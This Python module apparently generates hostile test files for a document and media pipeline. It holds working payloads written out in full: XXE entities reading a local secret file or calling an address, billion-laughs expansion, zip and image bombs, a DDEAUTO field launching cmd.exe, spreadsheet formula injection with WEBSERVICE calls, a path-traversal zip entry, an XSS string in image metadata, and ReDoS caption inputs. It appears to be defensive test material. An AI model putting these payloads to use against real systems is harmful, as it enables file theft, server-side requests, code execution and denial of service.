"""Office files, workbooks, clips and captions that attack whoever opens them, each named for how.

``DOCUMENTS``, ``WORKBOOKS``, ``CLIPS`` and ``CAPTIONS`` are functions that write such a file; they
are told where a secret is, and an address that notes who calls.
"""

from __future__ import annotations

import io
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import docx
import openpyxl
from PIL import Image

from automation import documents
from content_production.pictures.words import PictureWords, save_with_words

SECRET = "labs-hostile-s3cret"


@dataclass(frozen=True)
class Bait:
    """What the files reach for: a file of the machine, and an address on it."""

    secret: Path
    address: str


Write = Callable[[Path, Bait], None]


def _word() -> bytes:
    made = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("가상의 보고서")
    document.save(made)
    return made.getvalue()


def _hangul() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "report.hwpx")
        documents.report("가상의 보고서", items="□ 본문").save(path)
        return path.read_bytes()


def _workbook() -> bytes:
    made = io.BytesIO()
    book = openpyxl.Workbook()
    for row in [["접수번호", "접수일자", "금액"], ["가상-1", "2026-03-02", 1000]]:
        book.active.append(row)
    book.save(made)
    return made.getvalue()


def _replaced(container: bytes, parts: dict[str, bytes]) -> bytes:
    """A zip container with some parts replaced or added."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(container)) as old, zipfile.ZipFile(made, "w", 8) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return made.getvalue()


def _part(container: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(container)) as archive:
        return archive.read(name)


def _with_doctype(xml: bytes, doctype: str, text: bytes) -> bytes:
    """XML with a DOCTYPE before its root element, and an entity of it in place of ``text``."""
    assert text in xml
    declaration, _, rest = xml.rpartition(b"?>")
    return declaration + b"?>" + doctype.encode() + rest.replace(text, b"&x;", 1)


def _secret_entity(bait: Bait) -> str:
    return f'<!DOCTYPE r [<!ENTITY x SYSTEM "{bait.secret.as_uri()}">]>'


def _called_entity(bait: Bait) -> str:
    return f'<!DOCTYPE r [<!ENTITY x SYSTEM "{bait.address}">]>'


def _billion_laughs(_: Bait) -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE r [<!ENTITY l0 "하하하">{levels}<!ENTITY x "&l9;">]>'


WORD, HANGUL, WORKBOOK = _word(), _hangul(), _workbook()
_BODY, _SECTION, _SHEET = "word/document.xml", "Contents/section0.xml", "xl/worksheets/sheet1.xml"
_TEXT = "가상의 보고서".encode()


# --- Documents -----------------------------------------------------------------------------------


def word_with_an_entity_that_is_a_file(path: Path, bait: Bait) -> None:
    xml = _with_doctype(_part(WORD, _BODY), _secret_entity(bait), _TEXT)
    path.with_suffix(".docx").write_bytes(_replaced(WORD, {_BODY: xml}))


def word_with_an_entity_that_is_an_address(path: Path, bait: Bait) -> None:
    xml = _with_doctype(_part(WORD, _BODY), _called_entity(bait), _TEXT)
    path.with_suffix(".docx").write_bytes(_replaced(WORD, {_BODY: xml}))


def word_with_a_billion_laughs(path: Path, bait: Bait) -> None:
    xml = _with_doctype(_part(WORD, _BODY), _billion_laughs(bait), _TEXT)
    path.with_suffix(".docx").write_bytes(_replaced(WORD, {_BODY: xml}))


def hangul_with_an_entity_that_is_a_file(path: Path, bait: Bait) -> None:
    xml = _with_doctype(_part(HANGUL, _SECTION), _secret_entity(bait), _TEXT)
    path.write_bytes(_replaced(HANGUL, {_SECTION: xml}))


def hangul_with_a_billion_laughs(path: Path, bait: Bait) -> None:
    xml = _with_doctype(_part(HANGUL, _SECTION), _billion_laughs(bait), _TEXT)
    path.write_bytes(_replaced(HANGUL, {_SECTION: xml}))


def word_nested_a_hundred_thousand_deep(path: Path, _: Bait) -> None:
    xml = _part(WORD, _BODY)
    deep = b"<w:sdt><w:sdtContent>" * 100_000 + b"</w:sdtContent></w:sdt>" * 100_000
    path.with_suffix(".docx").write_bytes(
        _replaced(WORD, {_BODY: xml.replace(b"<w:body>", b"<w:body>" + deep)})
    )


def word_with_tables_in_tables(path: Path, _: Bait) -> None:
    xml = _part(WORD, _BODY)
    before, after = b"<w:tbl><w:tr><w:tc>", b"<w:p/></w:tc></w:tr></w:tbl>"
    deep = before * 200 + after * 200
    path.with_suffix(".docx").write_bytes(
        _replaced(WORD, {_BODY: xml.replace(b"<w:body>", b"<w:body>" + deep)})
    )


def word_with_a_part_of_a_gibibyte(path: Path, _: Bait) -> None:
    path.with_suffix(".docx").write_bytes(_with_huge_part(WORD, "word/media/zeros.bin"))


def word_with_a_million_tiny_parts(path: Path, _: Bait) -> None:
    """One entry of the directory, a million times."""
    size = len(WORD)
    end = WORD.rindex(b"PK\5\6")
    start = struct.unpack_from("<I", WORD, end + 16)[0]
    name = struct.unpack_from("<H", WORD, start + 28)[0]
    extra, comment = struct.unpack_from("<HH", WORD, start + 30)
    entry = WORD[start : start + 46 + name + extra + comment]
    directory = WORD[start:end] + entry * 1_000_000
    tail = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, len(directory), start, 0)
    assert size > start
    path.with_suffix(".docx").write_bytes(WORD[:start] + directory + tail)


def word_in_word_in_word(path: Path, _: Bait) -> None:
    inner = WORD
    for _level in range(20):
        inner = _replaced(WORD, {"word/embeddings/inner.docx": inner})
    path.with_suffix(".docx").write_bytes(inner)


def word_with_a_picture_of_sixty_thousand_squared(path: Path, _: Bait) -> None:
    """As PNG a few megabytes; as pixels 14 GB."""
    picture = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("가상의 보고서")
    document.add_picture(io.BytesIO(huge_png()))
    document.save(picture)
    path.with_suffix(".docx").write_bytes(picture.getvalue())


def word_whose_template_and_picture_are_at_an_address(path: Path, bait: Bait) -> None:
    name = "word/_rels/document.xml.rels"
    kinds = ("attachedTemplate", "image", "oleObject")
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = "".join(
        f'<Relationship Id="rIdX{kind}" Type="{office}/{kind}" TargetMode="External" '
        f'Target="{bait.address}"/>'
        for kind in kinds
    ).encode()
    rels = _part(WORD, name).replace(b"</Relationships>", links + b"</Relationships>")
    path.with_suffix(".docx").write_bytes(_replaced(WORD, {name: rels}))


def word_that_starts_a_program(path: Path, _: Bait) -> None:
    field = (
        b'<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe">'
        b"<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
    )
    xml = _part(WORD, _BODY).replace(b"<w:body>", b"<w:body>" + field)
    path.with_suffix(".docx").write_bytes(_replaced(WORD, {_BODY: xml}))


def word_whose_parts_point_outside(path: Path, _: Bait) -> None:
    path.with_suffix(".docx").write_bytes(_replaced(WORD, {"../../../labs-hostile.txt": b"x"}))


def hangul_whose_picture_is_a_bomb(path: Path, _: Bait) -> None:
    path.write_bytes(_with_huge_part(HANGUL, "BinData/image1.png"))


# --- Workbooks -----------------------------------------------------------------------------------


def workbook_with_an_entity_that_is_a_file(path: Path, bait: Bait) -> None:
    xml = _with_doctype(_part(WORKBOOK, _SHEET), _secret_entity(bait), b"1000")
    path.write_bytes(_replaced(WORKBOOK, {_SHEET: xml}))


def workbook_with_a_billion_laughs(path: Path, bait: Bait) -> None:
    xml = _with_doctype(_part(WORKBOOK, _SHEET), _billion_laughs(bait), b"1000")
    path.write_bytes(_replaced(WORKBOOK, {_SHEET: xml}))


def workbook_that_starts_programs_and_calls(path: Path, bait: Bait) -> None:
    book = openpyxl.Workbook()
    book.active.append(["접수번호", "접수일자", "금액"])
    for formula in (
        "=cmd|'/c calc'!A1",
        f'=WEBSERVICE("{bait.address}")',
        f'=HYPERLINK("{bait.address}","x")',
        f"='[{bait.address}]Sheet1'!A1",
        "+cmd|'/c calc'!A1",
        "@SUM(1+1)*cmd|'/c calc'!A1",
    ):
        book.active.append([formula, formula, formula])
    book.save(path)


def workbook_linked_to_an_address(path: Path, bait: Bait) -> None:
    office = "http://schemas.openxmlformats.org"
    link = (
        f'<externalLink xmlns="{office}/spreadsheetml/2006/main"><externalBook '
        f'xmlns:r="{office}/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
    )
    rels = (
        f'<Relationships xmlns="{office}/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{office}/officeDocument/2006/relationships/externalLinkPath" '
        f'Target="{bait.address}" TargetMode="External"/></Relationships>'
    )
    parts = {
        "xl/externalLinks/externalLink1.xml": link.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": rels.encode(),
    }
    path.write_bytes(_replaced(WORKBOOK, parts))


def workbook_with_a_cell_at_the_far_end(path: Path, _: Bait) -> None:
    cell = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    xml = _part(WORKBOOK, _SHEET).replace(b"</sheetData>", cell)
    path.write_bytes(_replaced(WORKBOOK, {_SHEET: xml}))


def workbook_with_a_sheet_of_a_gibibyte(path: Path, _: Bait) -> None:
    path.write_bytes(_with_huge_part(WORKBOOK, "xl/worksheets/sheet2.xml"))


def workbook_with_rows_in_rows(path: Path, _: Bait) -> None:
    xml = _part(WORKBOOK, _SHEET).replace(b"<sheetData>", b"<sheetData>" + b"<row>" * 100_000)
    path.write_bytes(_replaced(WORKBOOK, {_SHEET: xml}))


def workbook_of_shared_strings_that_are_not_there(path: Path, _: Bait) -> None:
    cell = b'<row r="9"><c r="A9" t="s"><v>4294967295</v></c></row></sheetData>'
    xml = _part(WORKBOOK, _SHEET).replace(b"</sheetData>", cell)
    path.write_bytes(_replaced(WORKBOOK, {_SHEET: xml}))


# --- Clips and captions --------------------------------------------------------------------------


def clip_that_is_a_playlist_of_the_machines_files(path: Path, bait: Bait) -> None:
    path.write_text(f"#EXTM3U\n#EXTINF:1,\n{bait.secret.as_uri()}\n#EXT-X-ENDLIST\n")


def clip_that_is_a_playlist_of_an_address(path: Path, bait: Bait) -> None:
    path.write_text(f"#EXTM3U\n#EXTINF:1,\n{bait.address}\n#EXT-X-ENDLIST\n")


def clip_that_is_a_list_of_the_machines_files(path: Path, bait: Bait) -> None:
    path.write_text(f"ffconcat version 1.0\nfile {bait.secret.as_posix()}\n")


def clip_that_is_a_picture_of_sixty_thousand_squared(path: Path, _: Bait) -> None:
    path.write_bytes(huge_png())


def clip_of_absurd_size_and_length(path: Path, _: Bait) -> None:
    """A header alone: 65,535 pixels squared, 2³² seconds."""
    movie = struct.pack(">IIIII", 0, 0, 0, 1, 0xFFFFFFFF) + bytes(80)
    track = struct.pack(">IIIII", 7, 0, 0, 1, 0) + struct.pack(">I", 0xFFFFFFFF) + bytes(52)
    track += struct.pack(">II", 0xFFFF0000, 0xFFFF0000)
    entry = (
        bytes(6) + struct.pack(">H", 1) + bytes(16) + struct.pack(">HH", 65535, 65535) + bytes(50)
    )
    tables = _box(b"stsd", struct.pack(">II", 0, 1) + _box(b"avc1", entry))
    tables += _box(b"stts", struct.pack(">IIII", 0, 1, 0xFFFFFFFF, 1))
    tables += _box(b"stsz", struct.pack(">III", 0, 1, 0xFFFFFFFF))
    tables += _box(b"stsc", struct.pack(">IIIII", 0, 1, 1, 0xFFFFFFFF, 1))
    tables += _box(b"stco", struct.pack(">III", 0, 1, 0))
    media = _box(b"mdhd", struct.pack(">IIIII", 0, 0, 0, 1, 0xFFFFFFFF) + bytes(4))
    media += _box(b"hdlr", bytes(8) + b"vide" + bytes(13))
    media += _box(b"minf", _box(b"vmhd", bytes(12)) + _box(b"stbl", tables))
    track_box = _box(b"trak", _box(b"tkhd", track) + _box(b"mdia", media))
    header = _box(b"ftyp", b"isom\0\0\2\0isomavc1")
    path.write_bytes(header + _box(b"moov", _box(b"mvhd", movie) + track_box) + _box(b"mdat", b"x"))


def clip_of_noise_behind_a_header(path: Path, _: Bait) -> None:
    noise = bytes((n * n * 31 + 7 * n) % 251 for n in range(200_000))
    path.write_bytes(_box(b"ftyp", b"isom\0\0\2\0isomavc1") + _box(b"moov", noise))


def captions_of_a_hundred_megabytes(path: Path, _: Bait) -> None:
    cue = "1\n00:00:00,000 --> 00:00:01,000\n가상 자막\n\n".encode()
    path.write_bytes(cue * (100_000_000 // len(cue)))


def captions_of_millions_of_styles(path: Path, _: Bait) -> None:
    head = b"[Script Info]\n[V4+ Styles]\nFormat: Name, Fontname\n"
    path.with_suffix(".ass").write_bytes(head + b"Style: x,x\n" * 400_000)


def captions_of_unending_tags(path: Path, _: Bait) -> None:
    """Patterns that look for the end of a tag try every beginning."""
    cue = "1\n00:00:00,000 --> 00:00:01,000\n" + "<b{" * 300_000 + "\n\n"
    path.write_text(cue)


def captions_at_times_that_are_none(path: Path, _: Bait) -> None:
    path.write_text("1\n99999999999:99:99,999 --> 00:00:-1,000\n가상\n\n", encoding="utf-8")


# --- What several of them are made of ------------------------------------------------------------


@cache
def card_that_is_a_picture_of_sixty_thousand_squared(path: Path, _: Bait) -> None:
    path.write_bytes(huge_png())


def card_with_a_note_of_a_gibibyte(path: Path, _: Bait) -> None:
    """A small picture whose words unpack to a gibibyte."""
    packer = zlib.compressobj(9)
    words = b"".join(packer.compress(bytes(1 << 20)) for _ in range(1024)) + packer.flush()
    picture = io.BytesIO()
    Image.new("RGB", (1080, 1080)).save(picture, "PNG")
    data = picture.getvalue()
    note = b"zTXtXML:com.adobe.xmp\0\0" + words
    chunk = struct.pack(">I", len(note) - 4) + note + struct.pack(">I", zlib.crc32(note))
    path.write_bytes(data[:33] + chunk + data[33:])


def card_whose_words_close_their_markup(path: Path, _: Bait) -> None:
    """Words in the file that are a script, should a page show them."""
    words = PictureWords(written="</li><script>alert(1)</script>", alternative="=cmd|' /C calc'!A0")
    save_with_words(Image.new("RGB", (200, 200)), path, words)


def card_text_of_unending_marks(path: Path, _: Bait) -> None:
    """A line of a million marks, each of which may begin a number."""
    path.with_name("alt.txt").write_text("- " * 1_000_000 + "\n" + " |" * 1_000_000, "utf-8")


def huge_png() -> bytes:
    """A PNG that says 60,000 × 60,000 and keeps its word."""
    side = 60_000
    rows = zlib.compressobj(1)
    packed = b"".join(rows.compress(bytes(side // 8 + 1)) for _ in range(side)) + rows.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    chunks = (b"IHDR", header), (b"IDAT", packed), (b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def _box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", len(content) + 8, kind) + content


def _with_huge_part(container: bytes, name: str) -> bytes:
    """A container with a part that is a few mebibytes packed and a gibibyte unpacked."""
    made = io.BytesIO(container)
    with zipfile.ZipFile(made, "a", 8, compresslevel=1) as archive, archive.open(name, "w") as part:
        zeros = bytes(16 << 20)
        for _ in range(64):
            part.write(zeros)
    return made.getvalue()


def _named(start: str) -> dict[str, Write]:
    found = {name: value for name, value in globals().items() if name.startswith(start)}
    return {name: value for name, value in found.items() if callable(value)}


DOCUMENTS = {**_named("word_"), **_named("hangul_")}
WORKBOOKS = _named("workbook_")
CLIPS = _named("clip_")
CAPTIONS = _named("captions_")
CARDS = _named("card_")
